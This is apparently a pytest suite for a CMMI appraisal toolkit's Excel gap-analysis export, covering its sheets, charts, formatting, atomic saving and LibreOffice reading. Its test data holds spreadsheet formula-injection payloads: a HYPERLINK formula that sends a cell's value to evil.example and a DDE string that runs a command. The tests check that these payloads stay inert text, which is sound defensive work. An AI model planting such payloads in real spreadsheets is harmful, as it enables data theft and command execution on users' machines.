"""Spreadsheet exports: safe text, the gap-analysis workbook, and a real spreadsheet program reading it."""

from __future__ import annotations

import runpy
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from cmmikit import palette
from cmmikit.excel import write_gap_workbook
from cmmikit.rating import rate
from cmmikit.xlsx_safe import MAX_CELL_TEXT, CellMaker, csv_text, safe_text, set_text

MALICIOUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+2", "-2-3", "=1+1",
             "\t=tab first", "plain text"]


def test_safe_text_strips_control_characters_but_keeps_line_breaks():
    assert safe_text("a\x00b\x07c\x1fd\te\nf\rg") == "abcd\te\nf\rg"
    assert safe_text(None) == "" and safe_text(3) == "3"


def test_safe_text_cuts_at_excels_cell_limit():
    text = safe_text("x" * (MAX_CELL_TEXT + 10))
    assert len(text) == MAX_CELL_TEXT and text.endswith("[...truncated]")


def test_csv_text_prefixes_formula_starts():
    assert [csv_text(t) for t in ("=1", "+1", "-1", "@x", "\tx", "ok")] == ["'=1", "'+1", "'-1", "'@x", "'\tx", "ok"]


@pytest.mark.parametrize("write_only", [False, True])
def test_user_text_comes_back_as_the_same_text(tmp_path, write_only):
    path = tmp_path / "t.xlsx"
    wb = Workbook(write_only=write_only)
    if write_only:
        ws = wb.create_sheet("T")
        make = CellMaker(ws)
        make.style("wrap", quotePrefix=False)
        for text in MALICIOUS:
            ws.append([make.text(text), make.text(text, "wrap")])
    else:
        ws = wb.active
        for row, text in enumerate(MALICIOUS, 1):
            set_text(ws.cell(row, 1), text)
            set_text(ws.cell(row, 2), text)
    wb.save(path)
    ws = load_workbook(path)[ws.title]
    for row, text in enumerate(MALICIOUS, 1):
        for col in (1, 2):
            cell = ws.cell(row, col)
            assert cell.value == text and cell.data_type == "s"
            assert bool(cell.quotePrefix) == text.startswith(("=", "+", "-", "@"))


# ------------------------------------------------------------------ the gap-analysis workbook

EVIL_NAME = "=HYPERLINK(\"http://evil.example\",\"x\")"


@pytest.fixture(scope="module")
def demo_book(demo_file, tmp_path_factory):
    """The sample appraisal's gap workbook, with malicious and long text planted in it."""
    from cmmikit.store import Appraisal

    copy = tmp_path_factory.mktemp("book") / "demo.cmmi"
    shutil.copy(demo_file, copy)
    with Appraisal.open(copy) as a:
        a.update_info(name=EVIL_NAME)
        a.update_record("MA", "SP 1.1", "Service Desk", characterization="PI", weaknesses="@SUM(A1:A9)",
                        strengths="x" * 300)
        evidence_id = a.add_evidence("MA", "SP 1.1", "Service Desk", "artifact", "=1+1", location="-2+3",
                                     who="+CMD|' /C calc'!A0")
        ratings = rate(a)
        path = write_gap_workbook(a, tmp_path_factory.mktemp("out") / "gap.xlsx", ratings=ratings)
        n_evidence = len(a.evidence())
        instances = [i.name for i in a.instances() if "MA" in i.pas]
    return {"path": path, "ratings": ratings, "wb": load_workbook(path), "n_evidence": n_evidence,
            "evidence_id": evidence_id, "ma_instances": instances}


def header_map(ws, row: int) -> dict[str, int]:
    return {c.value: c.column for c in ws[row] if c.value is not None}


def test_workbook_has_the_promised_sheets(demo_book):
    wb = demo_book["wb"]
    pas = list(demo_book["ratings"].pas["pa"])
    assert wb.sheetnames == ["Summary", "Goals", *pas, "Findings", "Action plan", "Evidence"]


def test_summary_shows_facts_verdict_and_pa_table(demo_book):
    ws, ratings = demo_book["wb"]["Summary"], demo_book["ratings"]
    facts = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(2, 12)}
    assert ws["A1"].value == f"Gap analysis: {EVIL_NAME}" and ws["A1"].data_type == "s"
    assert facts["Verdict"] == ratings.maturity.headline
    table = ws.tables["PARatings"]
    first, last = ws[table.ref][0], ws[table.ref][-1]
    assert [c.value for c in first][:5] == ["PA", "Process area", "Category", "Scope", "Rating"]
    rows = ws[table.ref][1:]
    assert [r[0].value for r in rows] == list(ratings.pas["pa"])
    assert [r[4].value for r in rows] == list(ratings.pas["rating"])
    readiness = rows[0][10]
    assert readiness.number_format == "0%" and readiness.value == pytest.approx(ratings.pas["readiness"].iloc[0])
    counts = ratings.cells[ratings.cells.pa == "CM"]["characterization"].value_counts()
    assert rows[0][12].value == counts.get("FI", 0)
    assert last[0].value == ratings.pas["pa"].iloc[-1]


def test_goals_sheet_gives_every_rating_and_reason(demo_book):
    ws, goals = demo_book["wb"]["Goals"], demo_book["ratings"].goals
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    assert [(r[0], r[1], r[3], r[4]) for r in rows] == list(zip(goals.pa, goals.goal, goals.rating, goals.reason))
    assert ws.tables["GoalRatings"].ref == f"A2:H{ws.max_row}"


def test_summary_has_native_charts_over_the_pa_table(demo_book):
    ws = demo_book["wb"]["Summary"]
    charts = ws._charts
    assert len(charts) == 2
    titles = ["".join(r.t for p in c.title.tx.rich.p for r in (p.r or [])) for c in charts]
    assert titles == ["Characterizations per PA", "Goal satisfaction per PA"]
    assert [len(c.series) for c in charts] == [6, 3]
    assert all(s.val.numRef.f.startswith("'Summary'!") for c in charts for s in c.series)
    fills = [s.graphicalProperties.solidFill.srgbClr for s in charts[0].series]
    assert fills[:2] == [palette.CHARACTERIZATION["FI"].lstrip("#"), palette.CHARACTERIZATION["LI"].lstrip("#")]


def test_pa_sheet_is_a_practice_by_instance_matrix(demo_book):
    ws, ratings = demo_book["wb"]["MA"], demo_book["ratings"]
    cols = header_map(ws, 2)
    assert list(cols)[:3] == ["Goal", "Practice", "Title"]
    instances = demo_book["ma_instances"]
    assert [c for c in list(cols)[3:3 + len(instances)]] == instances
    assert ws.freeze_panes == "D3"
    practices = ratings.practices[ratings.practices.pa == "MA"]
    assert ws.max_row == 2 + len(practices)
    row = next(r for r in range(3, ws.max_row + 1) if ws.cell(r, cols["Practice"]).value == "SP 1.1")
    assert ws.cell(row, cols["Service Desk"]).value == "PI"
    ou = practices[practices.practice == "SP 1.1"].iloc[0]
    assert ws.cell(row, cols["OU"]).value == (ou.ou if isinstance(ou.ou, str) else ou.aggregate)
    weak = ws.cell(row, cols["Weaknesses"])
    assert "Service Desk: @SUM(A1:A9)" in weak.value and weak.data_type == "s"
    strengths = ws.cell(row, cols["Strengths"])
    assert strengths.alignment.wrap_text
    assert ws.column_dimensions["C"].width == 34
    assert "PA_MA" in ws.tables and ws.tables["PA_MA"].ref == f"A2:{ws.cell(ws.max_row, ws.max_column).coordinate}"


def test_characterization_cells_are_coloured_by_conditional_formatting(demo_book):
    ws = demo_book["wb"]["MA"]
    n = len(demo_book["ma_instances"])
    rules = {}
    for rng in ws.conditional_formatting:
        for rule in rng.rules:
            rules.setdefault(str(rng.sqref), {})[rule.formula[0]] = rule.dxf.fill.fgColor.rgb
    from openpyxl.utils import get_column_letter

    char_range = f"D3:{get_column_letter(4 + n)}{ws.max_row}"
    assert rules[char_range]['"FI"'].endswith(palette.CHARACTERIZATION["FI"].lstrip("#"))
    assert rules[char_range]['"NI"'].endswith(palette.CHARACTERIZATION["NI"].lstrip("#"))


def test_user_text_stays_text_everywhere(demo_book):
    ws = demo_book["wb"]["Evidence"]
    cols = header_map(ws, 2)
    row = next(r for r in ws.iter_rows(min_row=3) if r[cols["Evidence ID"] - 1].value == demo_book["evidence_id"])
    for header, text in (("Description", "=1+1"), ("Location", "-2+3"), ("Who", "+CMD|' /C calc'!A0")):
        cell = row[cols[header] - 1]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    for sheet in demo_book["wb"]:
        for r in sheet.iter_rows():
            assert all(c.data_type != "f" for c in r), sheet.title


def test_evidence_sheet_has_one_row_per_item_and_a_table(demo_book):
    ws = demo_book["wb"]["Evidence"]
    assert ws.max_row == 2 + demo_book["n_evidence"]
    assert ws.freeze_panes == "A3"
    assert ws.tables["EvidenceTable"].ref == f"A2:I{ws.max_row}"


def test_list_sheets_are_tables_with_frozen_headers(demo_book):
    for title in ("Goals", "Findings", "Action plan", "Evidence"):
        ws = demo_book["wb"][title]
        assert ws.freeze_panes == "A3"
        (table,) = ws.tables.values()
        assert table.ref.startswith("A2:") and table.tableStyleInfo.name == "TableStyleMedium2"
        assert table.autoFilter.ref == table.ref  # filter buttons on every header
        assert [c.value for c in ws[2]] == [col.name for col in table.tableColumns]


def test_an_appraisal_without_data_still_exports(appraisal, tmp_path):
    path = write_gap_workbook(appraisal, tmp_path / "empty.xlsx")
    wb = load_workbook(path)
    assert wb["Evidence"].tables["EvidenceTable"].ref == "A2:I3"
    assert wb["CM"]["D2"].value == "Unit A"


def test_export_is_atomic(appraisal, tmp_path, monkeypatch):
    target = tmp_path / "gap.xlsx"
    target.write_bytes(b"old")

    from openpyxl import Workbook as WB

    save = WB.save

    def broken_save(self, filename):
        save(self, filename)
        raise OSError("disk full")

    monkeypatch.setattr(WB, "save", broken_save)
    with pytest.raises(OSError, match="disk full"):
        write_gap_workbook(appraisal, target)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".gap")] == []


def soffice_csv(book, outdir):
    """Convert every sheet of ``book`` to CSV with LibreOffice headless; returns {sheet: text}."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed; CI installs libreoffice-calc-nogui")
    profile = outdir / "profile"
    subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                    "--outdir", str(outdir), str(book)], check=True, capture_output=True, timeout=180)
    return {p.stem.split("-", 1)[1]: p.read_text(encoding="utf-8") for p in outdir.glob(f"{book.stem}-*.csv")}


def test_libreoffice_reads_the_workbook(demo_book, tmp_path):
    sheets = soffice_csv(demo_book["path"], tmp_path)
    assert set(sheets) == set(demo_book["wb"].sheetnames)
    assert EVIL_NAME.replace('"', '""') in sheets["Summary"]  # text, not a computed hyperlink
    assert demo_book["ratings"].maturity.headline in sheets["Summary"]
    assert '"=1+1"' in sheets["Evidence"] or ",=1+1," in sheets["Evidence"]
    assert len(sheets["Evidence"].splitlines()) == 2 + demo_book["n_evidence"]


def test_cli_export_xlsx(demo_file, tmp_path, capsys):
    from cmmikit.cli import main

    out = tmp_path / "sub" / "gap.xlsx"
    assert main(["export-xlsx", str(demo_file), "-o", str(out)]) == 0
    assert str(out) in capsys.readouterr().out
    assert load_workbook(out, read_only=True).sheetnames[0] == "Summary"
    assert main(["export-xlsx", str(tmp_path / "missing.cmmi"), "-o", str(out)]) == 1
    assert "no such appraisal file" in capsys.readouterr().err


def test_benchmark_script_runs_on_a_small_appraisal(capsys):
    script = Path(__file__).parent.parent / "benchmarks" / "export_xlsx.py"
    module = runpy.run_path(str(script))
    assert module["main"](["--units", "2", "--repeat", "1"]) == 0
    out = capsys.readouterr().out
    assert "appraisal: 2 basic units" in out and "ratio:" in out


# ------------------------------------------------------------------ findings and the action plan


@pytest.fixture(scope="module")
def findings_book(demo_file, tmp_path_factory):
    """The sample appraisal after a findings sync, with a hand-written finding and an overdue action."""
    from datetime import date

    from cmmikit.findings import actions_frame, findings_frame, plan_action, sync_findings
    from cmmikit.store import Appraisal

    copy = tmp_path_factory.mktemp("findings") / "demo.cmmi"
    shutil.copy(demo_file, copy)
    with Appraisal.open(copy) as a:
        sync_findings(a)
        manual = a.add_finding("weakness", "MA", "SG 1", EVIL_NAME, practices=["SP 1.1"], impact=5)
        plan_action(a, manual, "@SUM(A1) review the measures", owner="-Ops", due_date="2020-01-31")
        ratings = rate(a)
        frame = findings_frame(a, ratings)
        actions = actions_frame(a, today=date.today())
        path = write_gap_workbook(a, tmp_path_factory.mktemp("out") / "gap.xlsx", ratings=ratings)
    return {"wb": load_workbook(path), "findings": frame, "actions": actions, "manual": manual}


def test_findings_sheet_lists_every_finding_in_rank_order(findings_book):
    ws, frame = findings_book["wb"]["Findings"], findings_book["findings"]
    cols = header_map(ws, 2)
    assert list(cols)[:4] == ["Rank", "Score", "Priority", "Blocks ML2"]
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    assert len(rows) == len(frame) > 10
    assert [r[cols["Finding ID"] - 1] for r in rows] == list(frame["id"])
    ranks = [r[0] for r in rows if r[0] is not None]
    assert ranks == sorted(ranks) and ranks[0] == 1
    from cmmikit.charts import priority_band

    top = rows[0]
    assert top[cols["Priority"] - 1] == priority_band(top[cols["Score"] - 1])
    assert isinstance(top[cols["Blocks ML2"] - 1], bool)
    statement = next(r for r in ws.iter_rows(min_row=3) if r[cols["Finding ID"] - 1].value == findings_book["manual"])
    cell = statement[cols["Statement"] - 1]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL_NAME, "s", True)


def test_findings_sheet_has_filters_and_priority_formats(findings_book):
    ws = findings_book["wb"]["Findings"]
    assert ws.tables["FindingsTable"].ref == f"A2:S{ws.max_row}"
    kinds = {rule.type for rng in ws.conditional_formatting for rule in rng.rules}
    assert {"dataBar", "cellIs"} <= kinds
    formulas = {rule.formula[0] for rng in ws.conditional_formatting for rule in rng.rules if rule.type == "cellIs"}
    assert {'"High"', '"Medium"', '"Low"', '"Unsatisfied"'} <= formulas


def test_action_plan_sheet_flags_overdue_actions(findings_book):
    ws, actions = findings_book["wb"]["Action plan"], findings_book["actions"]
    cols = header_map(ws, 2)
    rows = list(ws.iter_rows(min_row=3))
    assert len(rows) == len(actions) >= 1
    assert [r[cols["Action ID"] - 1].value for r in rows] == list(actions["id"])
    assert [r[cols["Overdue"] - 1].value for r in rows] == list(actions["overdue"])
    row = next(r for r in rows if r[cols["Owner"] - 1].value == "-Ops")
    assert row[cols["Overdue"] - 1].value is True
    assert row[cols["Days overdue"] - 1].value > 0
    action, owner = row[cols["Action"] - 1], row[cols["Owner"] - 1]
    assert (action.value, action.quotePrefix, owner.value, owner.quotePrefix) == (
        "@SUM(A1) review the measures", True, "-Ops", True)
    rules = [(str(rng.sqref), rule.formula[0]) for rng in ws.conditional_formatting for rule in rng.rules]
    assert (f"J3:J{ws.max_row}", "TRUE") in rules


def test_summary_counts_open_weaknesses_per_pa(findings_book):
    ws, frame = findings_book["wb"]["Summary"], findings_book["findings"]
    rows = ws[ws.tables["PARatings"].ref][1:]
    open_gaps = frame[(frame.kind == "weakness") & (frame.status == "open")].groupby("pa").size()
    shown = {r[0].value: r[-1].value for r in rows}
    assert shown == {pa: int(open_gaps.get(pa, 0)) for pa in shown}


def test_findings_sheet_says_how_to_get_findings_when_there_are_none(appraisal, tmp_path):
    ws = load_workbook(write_gap_workbook(appraisal, tmp_path / "gap.xlsx"))["Findings"]
    assert "findings sync" in ws["A1"].value


def test_workbook_gets_ordinary_file_permissions(appraisal, tmp_path):
    import os

    mask = os.umask(0o022)
    try:
        path = write_gap_workbook(appraisal, tmp_path / "gap.xlsx")
    finally:
        os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o644


def test_awkward_instance_names_make_valid_unique_headers(appraisal, tmp_path):
    appraisal.update_instance("Unit B", new_name="Goal")
    appraisal.update_instance("QA Group", new_name="=QA [Group]'s #1")
    path = write_gap_workbook(appraisal, tmp_path / "odd.xlsx")
    ws = load_workbook(path)["CM"]
    headers = [c.value for c in ws[2]]
    assert headers[:6] == ["Goal", "Practice", "Title", "Unit A", "Goal (unit)", "=QA [Group]'s #1"]
    assert ws["F2"].data_type == "s" and ws["F2"].quotePrefix
    assert [c.name for c in ws.tables["PA_CM"].tableColumns] == headers
    sheets = soffice_csv(path, tmp_path / "lo")
    assert "=QA [Group]'s #1" in sheets["CM"].splitlines()[1]
